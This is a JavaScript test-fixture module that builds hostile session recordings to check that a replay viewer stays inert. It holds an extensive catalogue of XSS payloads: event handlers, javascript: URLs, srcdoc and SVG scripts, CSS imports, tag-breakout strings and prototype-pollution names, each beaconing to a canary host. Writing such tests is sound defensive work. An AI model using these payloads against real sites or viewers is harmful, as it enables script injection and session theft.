/** Recordings that no recorder makes: all that might act in the page of who watches. */
import { documentOf, frames, planted } from '../../support/segments.mjs';

const URL = 'https://shop.example/<img src=x onerror=__owned()>';

/** What scripts of a recording would do: leave marks wherever they can, and call home. */
const script = (canary, name) => `window.__owned = '${name}'; try { top.__owned = '${name}'; } catch {} try { top.location = '${canary}/${name}'; } catch {} fetch('${canary}/${name}'); new Image().src = '${canary}/${name}';`;
const HANDLERS = ['onload', 'onerror', 'onclick', 'onfocus', 'onmouseover', 'onpointerover', 'onanimationstart', 'ontoggle', 'onbegin', 'onloadstart', 'onbeforetoggle', 'onscroll', 'onpageshow', 'onmessage', 'oncanplay', 'onresize'];
const handlers = (canary, name) => Object.fromEntries(HANDLERS.map((handler) => [handler, script(canary, `${name}-${handler}`)]));
const page = (canary, name) => `<!doctype html><script>${script(canary, name)}</script><img src="${canary}/${name}-img">`;
const dataUrl = (type, text) => `data:${type},${encodeURIComponent(text)}`;

const inHead = (canary, own) => [
  ['meta', { 'http-equiv': 'refresh', content: `0;url=${canary}/refresh` }],
  ['meta', { 'http-equiv': 'Refresh', content: `0;url=javascript:${script(canary, 'refresh-script')}` }],
  ['meta', { 'http-equiv': 'set-cookie', content: 'owned=1; path=/' }],
  ['meta', { 'http-equiv': 'content-security-policy', content: "default-src * 'unsafe-inline' 'unsafe-eval' data: blob:" }],
  ['meta', { name: 'referrer', content: 'unsafe-url' }],
  ['meta', { NAME: ' Referrer ', content: 'unsafe-url' }],
  ['base', { href: `${canary}/base/`, target: '_top' }],
  ['script', {}, script(canary, 'script')],
  ['script', { src: `${canary}/script-src.js` }],
  ['script', { type: 'module', src: `${canary}/module.js` }],
  ['script', { type: 'importmap' }, `{"imports":{"x":"${canary}/importmap.js"}}`],
  ['script', { type: 'speculationrules' }, `{"prefetch":[{"source":"list","urls":["${canary}/speculation"]}],"prerender":[{"source":"list","urls":["${canary}/prerender"]}]}`],
  ...['stylesheet', 'preload', 'prefetch', 'dns-prefetch', 'preconnect', 'modulepreload', 'prerender', 'icon', 'apple-touch-icon', 'manifest', 'import', 'alternate stylesheet', 'expect', 'compression-dictionary'].flatMap((rel) => [
    ['link', { rel, href: `${canary}/link-${rel.replace(' ', '-')}`, as: rel === 'modulepreload' ? 'script' : 'image', crossorigin: 'use-credentials', onload: script(canary, `link-${rel}`), onerror: script(canary, `link-${rel}`) }],
    ['LINK', { REL: rel.toUpperCase(), HREF: `${canary}/upper-link-${rel.replace(' ', '-')}` }],
  ]),
  ['link', { rel: 'preload', as: 'image', imagesrcset: `${canary}/link-srcset 1x`, href: '' }],
  ['link', { rel: 'stylesheet', href: `${own}/api/viewer/logout` }],
  ['link', { rel: 'stylesheet', _cssText: `@import "${canary}/css-text-import"; body { background: url(${canary}/css-text) }`, href: 'https://shop.example/s.css' }],
  ['style', {}, `@import url("${canary}/import"); @import "${canary}/import-2" layer(x);`],
  ['style', {}, `@font-face { font-family: far; src: url(${canary}/font) } body { font-family: far; background: url("${canary}/background"), image-set("${canary}/image-set" 1x); cursor: url(${canary}/cursor), auto; --x: url(${canary}/variable); mask: url(${canary}/mask#m) } td { background: url("${canary}/modified" referrer-policy(unsafe-url)) } li::before { content: url(${canary}/content) } @namespace x "${canary}/namespace"; @property --y { syntax: "<url>"; inherits: true; initial-value: url(${canary}/property) }`],
  ['style', {}, '</style><script>top.__owned = "style"</script> * { position: fixed; inset: 0; z-index: 2147483647; behavior: url(#x); -moz-binding: url(#x) }'],
];

const frame = (canary) => [
  ['iframe', { srcdoc: page(canary, 'srcdoc'), sandbox: 'allow-scripts allow-same-origin allow-top-navigation', rr_src: `${canary}/rr-src`, ...handlers(canary, 'iframe') }],
  ['iframe', { SRCDOC: page(canary, 'upper-srcdoc'), RR_SRC: `${canary}/upper-rr-src` }],
  ['iframe', { SRC: `${canary}/upper-iframe` }],
  ['iframe', { src: `${canary}/iframe`, loading: 'eager' }],
  ['iframe', { src: `javascript:${script(canary, 'iframe-script')}` }],
  ['iframe', { src: dataUrl('text/html', page(canary, 'iframe-data')) }],
  ['frameset', {}, ['frame', { src: `${canary}/frame` }]],
  ['object', { data: `${canary}/object`, type: 'text/html', classid: `${canary}/classid`, codebase: canary }, ['param', { name: 'movie', value: `${canary}/param` }]],
  ['object', { data: dataUrl('image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg"><script>${script(canary, 'object-svg')}</script></svg>`) }],
  ['embed', { src: `${canary}/embed`, type: 'image/svg+xml' }],
  ['applet', { code: `${canary}/applet`, archive: `${canary}/archive` }],
  ['portal', { src: `${canary}/portal` }],
  ['fencedframe', { src: `${canary}/fencedframe` }],
  ['webview', { src: `${canary}/webview` }],
];

const media = (canary) => [
  ['img', { src: `${canary}/img`, srcset: `${canary}/img-srcset 1x`, lowsrc: `${canary}/lowsrc`, longdesc: `${canary}/longdesc`, rr_dataURL: `${canary}/rr-data-url`, ...handlers(canary, 'img') }],
  ['img', { src: `${canary}/referred`, referrerpolicy: 'unsafe-url' }],
  ['img', { SRC: `${canary}/upper-referred`, REFERRERPOLICY: 'unsafe-url' }],
  ['picture', {}, ['source', { srcset: `${canary}/picture` }], ['img', { src: 'x', onerror: script(canary, 'img-x') }]],
  ['video', { src: `${canary}/video`, poster: `${canary}/poster`, autoplay: '', preload: 'auto', rr_mediaState: 'played', rr_mediaCurrentTime: '1', ...handlers(canary, 'video') }, ['source', { src: `${canary}/video-source` }], ['track', { src: `${canary}/track`, default: '' }]],
  ['audio', { src: `${canary}/audio`, autoplay: '', preload: 'auto' }],
  ['input', { type: 'image', src: `${canary}/input-image`, formaction: `javascript:${script(canary, 'input-image')}` }],
  ['canvas', { rr_dataURL: `${canary}/canvas` }],
  ['table', { background: `${canary}/table` }, ['tbody', {}, ['tr', {}, ['td', { background: `${canary}/td` }, 'cell']]]],
  ['div', { style: `background: url(${canary}/style-attribute); list-style: url(${canary}/list-style); border-image: url(${canary}/border-image); position: fixed; inset: 0; z-index: 2147483647` }, 'over all'],
];

const svgPart = (canary) => [
  { svg: ['svg', { onload: script(canary, 'svg'), 'xmlns:xlink': 'http://www.w3.org/1999/xlink' },
    { svg: ['script', { href: `${canary}/svg-script` }, script(canary, 'svg-script')] },
    { svg: ['script', { 'xlink:href': dataUrl('text/javascript', script(canary, 'svg-script-data')) }] },
    { svg: ['use', { href: dataUrl('image/svg+xml', `<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${script(canary, 'use')}"/></svg>#x`) }] },
    { svg: ['use', { 'xlink:href': `${canary}/use#x` }] },
    { svg: ['image', { href: `${canary}/svg-image`, 'xlink:href': `${canary}/svg-image-x`, onerror: script(canary, 'svg-image') }] },
    { svg: ['feImage', { href: `${canary}/fe-image` }] },
    { svg: ['a', { href: `javascript:${script(canary, 'svg-a')}` }, { svg: ['animate', { attributeName: 'href', values: `javascript:${script(canary, 'animate')}`, begin: '0s', onbegin: script(canary, 'animate-begin') }] }, { svg: ['text', { y: '20' }, 'svg link'] }] },
    { svg: ['set', { attributeName: 'onmouseover', to: script(canary, 'set'), begin: '0s' }] },
    { svg: ['foreignObject', {}, ['iframe', { srcdoc: page(canary, 'foreign') }], ['script', {}, script(canary, 'foreign-script')]] },
    { svg: ['style', {}, `@import "${canary}/svg-import"; * { fill: url(${canary}/fill#x) }`] },
  ] },
];

const forms = (canary) => [
  ['a', { href: `javascript:${script(canary, 'a')}`, target: '_top', id: 'link', ping: `${canary}/ping`, attributionsrc: `${canary}/attribution`, ...handlers(canary, 'a') }, 'a link'],
  ['a', { href: `${canary}/a`, target: '_blank', rel: 'opener', download: 'x.html', accesskey: 'f' }, 'another'],
  ['map', { name: 'm' }, ['area', { href: `javascript:${script(canary, 'area')}`, shape: 'default' }]],
  ['form', { action: `${canary}/form`, method: 'post', target: '_top', id: 'form', onsubmit: script(canary, 'submit') },
    ['input', { name: 'user', autofocus: '', onfocus: script(canary, 'autofocus'), value: 'ada' }],
    ['input', { name: 'attributes', id: 'getElementById' }],
    ['button', { formaction: `javascript:${script(canary, 'formaction')}`, type: 'submit', autofocus: '' }, 'send'],
  ],
  ['form', { action: `javascript:${script(canary, 'form-script')}`, name: 'contentDocument' }, ['input', { type: 'submit', form: 'form' }]],
  ['dialog', { open: '', rr_open_mode: 'modal', oncancel: script(canary, 'cancel') }, ['button', { autofocus: '', popovertarget: 'pop' }, 'close']],
  ['div', { popover: 'auto', id: 'pop', ontoggle: script(canary, 'pop') }, 'popover'],
  ['details', { open: '', ontoggle: script(canary, 'details') }, ['summary', {}, 'more']],
  ['button', { commandfor: 'pop', command: 'show-popover', interesttarget: 'pop' }, 'show'],
  ['keygen', { autofocus: '' }],
  ['marquee', { onstart: script(canary, 'marquee') }, 'marquee'],
  ['body', { onload: script(canary, 'second-body'), background: `${canary}/second-body` }],
  ['html', { manifest: `${canary}/manifest` }],
];

/** Names that mean something to the viewer, the replayer, or JavaScript. */
const names = (canary) => [
  ['div', { class: 'player controls seek-input replayer-wrapper', id: '__afterimageViewer', role: 'button', 'aria-label': 'Play (space)' }, 'named as the viewer'],
  ['x-viewer', { is: 'x-button' }, ['slot', { name: 'controls' }]],
  ['div', [['__proto__', 'x'], ['constructor', 'y'], ['hasOwnProperty', 'z'], ['toString', 't'], ['then', 'u']], 'names of JavaScript'],
  ['div', [['rr_width', '1px'], ['rr_height', 'javascript:1'], ['rr_src', `${canary}/rr`], ['rr_scrollLeft', '1'], ['_cssText', `@import "${canary}/cssText"`]], 'names of rrweb'],
  ['div', [['a\0b', 'nul'], ['<x', 'y'], ['"><script>top.__owned=1</script>', 'z'], [' ', 'space'], ['=', '='], ['', 'no name']], 'no names'],
  ['no name', {}, 'a space'],
  ['<script>', {}, script(canary, 'name')],
  ['script\0', {}, script(canary, 'nul-name')],
  ['SCRIPT', {}, script(canary, 'upper-name')],
  ['noscript', {}, `<img src="${canary}/noscript"></noscript><script>top.__owned = 'noscript'</script>`],
  ['template', {}, ['img', { src: `${canary}/template`, onerror: script(canary, 'template') }]],
  ['xmp', {}, `</xmp><img src=x onerror="top.__owned='xmp'">`],
  ['plaintext', {}, 'plain \0 text \u202e turned'],
  ['textarea', {}, '</textarea><script>top.__owned = "textarea"</script>'],
  ['__proto__', {}, 'proto'],
  ['constructor', {}, 'constructor'],
];

/** A recording of all this, which goes on to set as attributes what no parser would have let stand. */
export function acting(canary, own) {
  const body = [...forms(canary), ...frame(canary), ...media(canary), ...svgPart(canary), ...names(canary), ['x-host', {}, 'light']];
  const top = documentOf(inHead(canary, own), body);
  const { insertions, next } = planted(0, [top], 1);
  // In the order in which they are told: the document, html, head, body.
  const BODY = 4;
  const later = planted(BODY, [['div', { id: 'later', ...handlers(canary, 'later') }, ['script', {}, script(canary, 'later-script')], ['img', { src: `${canary}/later-img` }], ['iframe', { srcdoc: page(canary, 'later-srcdoc') }], ['link', { rel: 'stylesheet', href: `${canary}/later-link` }], ['meta', { 'http-equiv': 'refresh', content: `0;url=${canary}/later-refresh` }], ['meta', { content: 'unsafe-url' }]]], next);
  const set = (name, value) => ({ node: BODY, name, value });
  return [
    [0, frames.page(URL)],
    [0, frames.tree({ insertions })],
    [0, frames.note('user', { id: '<img src=x onerror=__owned()>', name: '<script>__owned()</script>', email: '"><svg onload=__owned()>' })],
    [0, frames.sheet(1, canary, `@import "${canary}/constructed-import"; body { background: url(${canary}/constructed) }`)],
    [500, frames.view(`javascript:__owned()`, '<b onclick=__owned()>name</b>')],
    [600, frames.note('error', { message: '<img src=x onerror=__owned()>', stack: 'javascript:__owned()', url: 'javascript:__owned()' })],
    [700, frames.note('__proto__', { __proto__: 1, constructor: 2 })],
    [900, frames.focus(BODY + 2)],
    [1_000, frames.click(BODY + 1)],
    [1_200, frames.tree({ first: next, insertions: later.insertions })],
    [1_500, frames.tree({ first: later.next, attributes: [...HANDLERS.map((handler) => set(handler, script(canary, `set-${handler}`))), set('style', `background: url(${canary}/set-style)`), set('background', `${canary}/set-background`), set('innerHTML', `<img src=x onerror="top.__owned='inner'">`), set('srcdoc', page(canary, 'set-srcdoc')), set('__proto__', 'x'), { node: next + 6, name: 'name', value: 'referrer' }] })],
    [1_700, frames.tree({ first: later.next, insertions: [{ parent: BODY, nodes: [['img', { src: `${canary}/after-referrer` }]] }] })],
    [2_000, frames.click(BODY + 1)],
    [8_000, frames.view('https://shop.example/end')],
  ];
}

const small = () => planted(0, [documentOf([], [['div', {}, ['p', {}, 'first']], ['p', {}, 'last']])], 1);

/** A node is put into what is in it, is there twice, or is its own sibling. */
export function cycling() {
  const { insertions, next } = small();
  const DIV = 5;
  const INNER = 7;
  return [
    [0, frames.page(URL)],
    [0, frames.tree({ insertions })],
    [100, frames.tree({ first: next, texts: [] })],
    [200, frames.tree({ first: next, detached: [DIV], insertions: [{ parent: INNER, nodes: [{ placed: DIV }] }] })],
    [300, frames.tree({ first: next, insertions: [{ parent: DIV, nodes: [{ placed: DIV }] }] })],
    [400, frames.tree({ first: 1, insertions })],
    [5_000, frames.view('https://shop.example/end')],
  ];
}

/** Elements within each other, and beside each other. */
export function large({ depth, breadth }) {
  let nested = 'ground';
  for (let level = 0; level < depth; level++) nested = ['div', {}, nested];
  const { insertions } = planted(0, [documentOf([], [nested, ...Array.from({ length: breadth }, (_, number) => ['i', {}, String(number)])])], 1);
  return [
    [0, frames.page('https://shop.example/large')],
    [0, frames.tree({ insertions })],
    [5_000, frames.view('https://shop.example/end')],
  ];
}

/** A text that is no UTF-8: what became of a lone surrogate. */
export function surrogate() {
  const { insertions } = planted(0, [documentOf([], [['p', {}, Buffer.from([0xed, 0xa0, 0x80])]])], 1);
  return [
    [0, frames.page('https://shop.example/')],
    [0, frames.tree({ insertions })],
  ];
}
